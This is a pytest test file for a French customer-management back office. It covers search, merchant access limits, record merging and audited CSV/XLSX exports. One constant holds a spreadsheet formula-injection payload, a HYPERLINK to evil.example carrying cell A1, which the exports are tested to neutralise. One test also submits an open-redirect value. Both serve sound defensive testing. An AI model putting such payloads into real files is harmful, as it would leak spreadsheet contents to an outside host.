"""The shared customer file in the back office: search, 360° page, merge, prospects, review queue, exports."""

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from sqlalchemy import select

from webapp.domain import consent, people
from webapp.extensions import db
from webapp.models import AuditEntry, Customer, ReviewItem

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
AT = datetime(2026, 5, 10, 9, 0, tzinfo=UTC)
NOW = datetime(2026, 6, 15, 10, 0, tzinfo=UTC)


@pytest.fixture
def app_config():
    return {"FROZEN_NOW": NOW}


@pytest.fixture
def world(make):
    """Two shops; Éloïse visited shop A, Bruno visited shop B only, Zoé's only visit at A was voided."""
    make.union()
    shop_a, shop_b = make.shop(name="Fromagerie A"), make.shop(name="Librairie B")
    eloise = make.customer(
        first_name="Éloïse", last_name="Dupont", email="eloise.dupont@example.org", phone="+33612345678"
    )
    bruno = make.customer(first_name="Bruno", last_name="Lœuvre", email="bruno@example.org", postcode="69001")
    zoe = make.customer(first_name="Zoé", last_name="Martin", email="zoe@example.org")
    card_e, card_b, card_z = make.card(eloise), make.card(bruno), make.card(zoe)
    make.visit(card_e, shop_a, 2350, AT)
    make.visit(card_e, shop_b, 1000, AT + timedelta(days=1))
    make.visit(card_b, shop_b, 500, AT)
    voided = make.visit(card_z, shop_a, 700, AT)
    voided.voided_at = AT + timedelta(minutes=1)
    db.session.commit()
    return {
        "shop_a": shop_a,
        "shop_b": shop_b,
        "eloise": eloise,
        "bruno": bruno,
        "zoe": zoe,
        "card_e": card_e,
        "card_b": card_b,
        "admin": make.staff(role="admin"),
        "organiser": make.staff(role="organiser"),
        "merchant_a": make.staff(role="merchant", shop=shop_a),
    }


def found(query, **kwargs):
    return [row.id for row in people.search(db.session, query, **kwargs).rows]


@pytest.mark.parametrize(
    "query,who,kind",
    [
        ("elo", "eloise", "name"),
        ("ÉLOÏ", "eloise", "name"),
        ("dup", "eloise", "name"),
        ("eloise dupont", "eloise", "name"),
        ("Dupont Éloïse", "eloise", "name"),
        ("loeu", "bruno", "name"),
        ("LŒUVRE", "bruno", "name"),
        ("eloise.dupont@ex", "eloise", "email"),
        ("ELOISE.DUPONT@example.org", "eloise", "email"),
        ("06 12 34 56 78", "eloise", "phone"),
        ("+33 6 12 34 56 78", "eloise", "phone"),
        ("69001", "bruno", "postcode"),
    ],
)
def test_search_by_each_kind(world, query, who, kind):
    result = people.search(db.session, query)
    assert result.kind == kind
    assert [row.id for row in result.rows] == [world[who].id]
    assert result.total == 1


def test_search_by_card_number_typed_with_spaces(world):
    number = world["card_b"].number
    typed = f"{number[:4]} {number[4:8]} {number[8:]}"
    assert people.parse_query(typed).kind == "card"
    assert found(typed) == [world["bruno"].id]


def test_search_excludes_erased_and_merged_people(world, make):
    make.customer(first_name="Élodie", erased_at=AT)
    survivor = make.customer(first_name="Élonore")
    make.customer(first_name="Éloane", merged_into_id=survivor.id)
    assert sorted(found("elo")) == sorted([world["eloise"].id, survivor.id])


def test_search_invalid_phone_finds_nobody(world):
    result = people.search(db.session, "12 34 56")
    assert (result.kind, result.valid, result.total) == ("phone", False, 0)


def test_search_pages(world, make, client, login):
    for n in range(30):
        make.customer(first_name=f"Paginé{n:02d}", last_name="Page", postcode="75011")
    first = people.search(db.session, "75011", page=1, per_page=25)
    second = people.search(db.session, "75011", page=2, per_page=25)
    assert (first.total, first.pages, len(first.rows), len(second.rows)) == (30, 2, 25, 5)
    assert not {row.id for row in first.rows} & {row.id for row in second.rows}
    login(world["admin"])
    page = client.get("/admin/customers?q=75011")
    text = page.get_data(as_text=True)
    assert page.status_code == 200 and "30 personnes" in text and "page=2" in text
    page2 = client.get("/admin/customers?q=75011&page=2").get_data(as_text=True)
    assert page2.count('class="who"') == 5


def test_search_page_and_empty_query_for_the_office(world, client, login):
    login(world["organiser"])
    text = client.get("/admin/customers?q=eloise").get_data(as_text=True)
    assert "Éloïse Dupont" in text and "Bruno" not in text
    everybody = client.get("/admin/customers").get_data(as_text=True)
    assert "Éloïse" in everybody and "Bruno" in everybody and "Zoé" in everybody


def test_merchant_sees_only_people_who_visited_their_shop(world, client, login):
    login(world["merchant_a"])
    listing = client.get("/admin/customers").get_data(as_text=True)
    assert "Éloïse" in listing and "Bruno" not in listing and "Zoé" not in listing  # Zoé: voided visit only
    assert "Bruno" not in client.get("/admin/customers?q=bruno").get_data(as_text=True)
    assert "Bruno" not in client.get(f"/admin/customers?q={world['card_b'].number}").get_data(as_text=True)
    assert client.get(f"/admin/customers/{world['bruno'].id}").status_code == 404
    assert client.get(f"/admin/customers/{world['zoe'].id}").status_code == 404
    page = client.get(f"/admin/customers/{world['eloise'].id}")
    text = page.get_data(as_text=True)
    assert page.status_code == 200 and "Fromagerie A" in text
    assert "Librairie B" not in text  # only their own shop's visits
    exported = client.get("/admin/customers/export.csv").get_data()
    assert b"Dupont" in exported and b"Bruno" not in exported and b"Martin" not in exported


@pytest.mark.parametrize(
    "method,path",
    [
        ("get", "/admin/prospects"),
        ("get", "/admin/prospects/export.csv"),
        ("get", "/admin/customers/review"),
        ("post", "/admin/customers/1/merge"),
        ("post", "/admin/customers/merges/1/undo"),
        ("post", "/admin/customers/review/1"),
    ],
)
def test_merchant_is_refused_the_office_pages(world, client, login, method, path):
    login(world["merchant_a"])
    assert getattr(client, method)(path).status_code == 403


@pytest.mark.parametrize(
    "path", ["/admin/customers/1/merge", "/admin/customers/merges/1/undo", "/admin/customers/review/1"]
)
def test_organiser_cannot_merge(world, client, login, path):
    login(world["organiser"])
    assert client.post(path, data={"other": "2", "decision": "same"}).status_code == 403


def test_person_page_shows_everything_and_is_audited(world, client, login, now):
    eloise = world["eloise"]
    consent.record_consents(
        db.session,
        eloise.id,
        {"email": True, "sms": False},
        method="form",
        wordings={"email": "J'accepte les e-mails", "sms": "SMS"},
        now=now,
        record_unchanged=True,
    )
    db.session.commit()
    login(world["admin"])
    page = client.get(f"/admin/customers/{eloise.id}")
    assert page.status_code == 200
    text = page.get_data(as_text=True)
    for expected in ("Éloïse", "Dupont", "+33612345678", "J&#39;accepte les e-mails", "Fromagerie A", "Librairie B"):
        assert expected in text
    assert "<dd>33</dd>" in text  # 23 + 10 points
    assert "Fusionner dans cette fiche" in text
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "view_person"))
    assert (entry.account_id, entry.object_type, entry.object_id) == (world["admin"].id, "customer", eloise.id)
    assert client.get("/admin/customers/999999").status_code == 404


def rows_of_csv(data: bytes):
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


def test_exports_are_safe_and_audited(world, client, login):
    bruno = world["bruno"]
    bruno.last_name = HOSTILE
    db.session.commit()
    login(world["admin"])
    response = client.get("/admin/customers/export.csv?q=bruno")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    assert "attachment" in response.headers["Content-Disposition"]
    rows = rows_of_csv(response.get_data())
    assert rows[0][:3] == ["N° de fiche", "Prénom", "Nom"]
    assert len(rows) == 2 and rows[1][0] == str(bruno.id)
    assert rows[1][2] == "'" + HOSTILE
    assert rows[1][6] == world["card_b"].number

    response = client.get("/admin/customers/export.xlsx?q=bruno")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.get_data())).active
    values = list(sheet.values)
    assert len(values) == 2 and values[1][2] == "'" + HOSTILE
    assert sheet.cell(row=2, column=3).data_type == "s"

    entries = db.session.scalars(select(AuditEntry).where(AuditEntry.action == "export").order_by(AuditEntry.id)).all()
    assert [(e.detail["list"], e.detail["rows"], e.detail["format"]) for e in entries] == [
        ("customers", 1, "csv"),
        ("customers", 1, "xlsx"),
    ]
    assert entries[0].account_id == world["admin"].id and entries[0].detail["query"] == "bruno"
    assert client.get("/admin/customers/export.pdf").status_code == 404


def test_merchant_export_is_recorded_with_their_shop(world, client, login):
    login(world["merchant_a"])
    rows = rows_of_csv(client.get("/admin/customers/export.csv").get_data())
    assert [row[0] for row in rows[1:]] == [str(world["eloise"].id)]
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "export"))
    assert entry.detail["shop_id"] == world["shop_a"].id and entry.detail["rows"] == 1


def test_prospects_listed_apart_with_their_source_and_exported(world, make, client, login):
    make.customer(first_name="Importée", source="import", email="imp@example.org")
    make.customer(first_name="Joueuse", source="contest", email="jeu@example.org")
    login(world["organiser"])
    text = client.get("/admin/prospects").get_data(as_text=True)
    assert "2 prospects" in text and "Importée" in text and "Joueuse" in text and "Éloïse" not in text
    assert "Fichier importé" in text and "Jeu-concours" in text
    filtered = client.get("/admin/prospects?source=contest").get_data(as_text=True)
    assert "Joueuse" in filtered and "Importée" not in filtered
    rows = rows_of_csv(client.get("/admin/prospects/export.csv?source=import").get_data())
    assert [row[1] for row in rows[1:]] == ["Importée"]
    sheet = load_workbook(io.BytesIO(client.get("/admin/prospects/export.xlsx").get_data())).active
    assert sheet.max_row == 3
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "export").order_by(AuditEntry.id))
    assert entry.detail["list"] == "prospects" and entry.detail["rows"] == 1


def test_merge_form_by_card_number_then_undo(world, client, login):
    eloise, bruno = world["eloise"], world["bruno"]
    login(world["admin"])
    response = client.post(f"/admin/customers/{eloise.id}/merge", data={"other": world["card_b"].number})
    assert response.status_code == 302
    assert "fusionnée dans cette fiche" in client.get(response.location).get_data(as_text=True)
    absorbed = db.session.get(Customer, bruno.id)
    assert absorbed.merged_into_id == eloise.id
    assert db.session.get(Customer, eloise.id).postcode == "69004"  # not empty: kept
    assert found("bruno") == []
    entry = db.session.scalar(select(AuditEntry).where(AuditEntry.action == "merge_people"))
    page = client.get(f"/admin/customers/{eloise.id}").get_data(as_text=True)
    assert "Annuler cette fusion" in page and f"/admin/customers/merges/{entry.id}/undo" in page
    merged_page = client.get(f"/admin/customers/{bruno.id}").get_data(as_text=True)
    assert "a été fusionnée dans la fiche" in merged_page

    response = client.post(f"/admin/customers/merges/{entry.id}/undo", data={"next": "https://evil.example/"})
    assert response.status_code == 302 and response.location.endswith(f"/admin/customers/{eloise.id}")
    assert db.session.get(Customer, bruno.id).merged_into_id is None
    assert found("bruno") == [bruno.id]
    again = client.post(f"/admin/customers/merges/{entry.id}/undo", data={"next": "https://evil.example/"})
    assert again.location == "/admin/customers"
    assert "déjà été annulée" in client.get("/admin/customers").get_data(as_text=True)


@pytest.mark.parametrize(
    "other,message",
    [
        ("self", "avec elle-même"),
        ("999999", "Aucune fiche ne correspond"),
        ("abc", "Aucune fiche ne correspond"),
        ("", "Indiquez le numéro"),
    ],
)
def test_merge_form_refusals(world, client, login, other, message):
    eloise = world["eloise"]
    login(world["admin"])
    value = str(eloise.id) if other == "self" else other
    response = client.post(f"/admin/customers/{eloise.id}/merge", data={"other": value})
    assert response.status_code == 302
    assert message in client.get(response.location).get_data(as_text=True)
    assert db.session.scalar(select(AuditEntry).where(AuditEntry.action == "merge_people")) is None


def test_merge_into_a_merged_person_is_refused(world, client, login, make):
    gone = make.customer(first_name="Ancienne", merged_into_id=world["eloise"].id)
    login(world["admin"])
    response = client.post(f"/admin/customers/{gone.id}/merge", data={"other": str(world["bruno"].id)})
    assert "déjà été fusionnée dans une autre" in client.get(response.location).get_data(as_text=True)
    assert db.session.get(Customer, world["bruno"].id).merged_into_id is None


def review_item(first, second, **fields):
    values = dict(customer_id=first.id, candidate_id=second.id, score=0.92, reason="même nom et code postal")
    values.update(fields)
    item = ReviewItem(**values)
    db.session.add(item)
    db.session.commit()
    return item


def test_review_queue_same_person_merges_into_the_older_record(world, make, client, login, now):
    older = make.customer(first_name="Martine", last_name="Durand", created_at=now - timedelta(days=400))
    newer = make.customer(first_name="Martine", last_name="Durand", phone="+33612345679", created_at=now)
    item = review_item(newer, older)  # the import's new record first, the candidate is older
    login(world["organiser"])
    queue = client.get("/admin/customers/review").get_data(as_text=True)
    assert "1 proposition à vérifier" in queue and "Martine Durand" in queue and "92 %" in queue
    assert 'value="same"' not in queue  # organisers read, admins decide
    client.post("/auth/logout")
    login(world["admin"])
    assert 'value="same"' in client.get("/admin/customers/review").get_data(as_text=True)
    response = client.post(f"/admin/customers/review/{item.id}", data={"decision": "same"})
    assert response.status_code == 302
    assert "rattachée à la fiche" in client.get(response.location).get_data(as_text=True)
    item = db.session.get(ReviewItem, item.id)
    assert (item.status, item.resolved_by_id, item.resolved_at) == ("merged", world["admin"].id, now)
    assert db.session.get(Customer, newer.id).merged_into_id == older.id
    assert db.session.get(Customer, older.id).phone == "+33612345679"
    assert "0 proposition" in client.get("/admin/customers/review").get_data(as_text=True)
    again = client.post(f"/admin/customers/review/{item.id}", data={"decision": "separate"})
    assert "déjà été traitée" in client.get(again.location).get_data(as_text=True)


def test_review_queue_different_people(world, make, client, login, now):
    item = review_item(make.customer(first_name="Paul"), make.customer(first_name="Paule"))
    login(world["admin"])
    response = client.post(f"/admin/customers/review/{item.id}", data={"decision": "separate"})
    assert response.status_code == 302
    item = db.session.get(ReviewItem, item.id)
    assert (item.status, item.resolved_by_id, item.resolved_at) == ("separate", world["admin"].id, now)
    assert db.session.scalar(select(AuditEntry).where(AuditEntry.action == "merge_people")) is None
    assert client.post(f"/admin/customers/review/{item.id}", data={"decision": "maybe"}).status_code == 302
    assert db.session.get(ReviewItem, item.id).status == "separate"


def test_index_links_to_the_shared_file(world, client, login):
    login(world["organiser"])
    text = client.get("/admin/").get_data(as_text=True)
    for path in ("/admin/customers", "/admin/prospects", "/admin/customers/review"):
        assert f'href="{path}"' in text


def test_name_results_are_alphabetical_and_large_results_capped(world, make, monkeypatch):
    for last in ("Zola", "Abel", "Moreau"):
        make.customer(first_name="Capucine", last_name=last)
    assert [row.last_name for row in people.search(db.session, "capu").rows] == ["Abel", "Moreau", "Zola"]
    ids = [make.customer(first_name="Cyprien", last_name=f"N{n:02d}").id for n in range(12)]
    monkeypatch.setattr(people, "COUNT_CAP", 10)
    first = people.search(db.session, "cypr", per_page=4)
    # Past the cap: the cap + 1 newest matches, still in name order.
    assert (first.capped, first.total, first.pages) == (True, 11, 3)
    assert [row.id for row in first.rows] == ids[1:5]
    last = people.search(db.session, "cypr", page=99, per_page=4)
    assert last.page == 3 and [row.id for row in last.rows] == ids[9:12]
    small = people.search(db.session, "capu", per_page=4)
    assert (small.capped, small.total) == (False, 3)
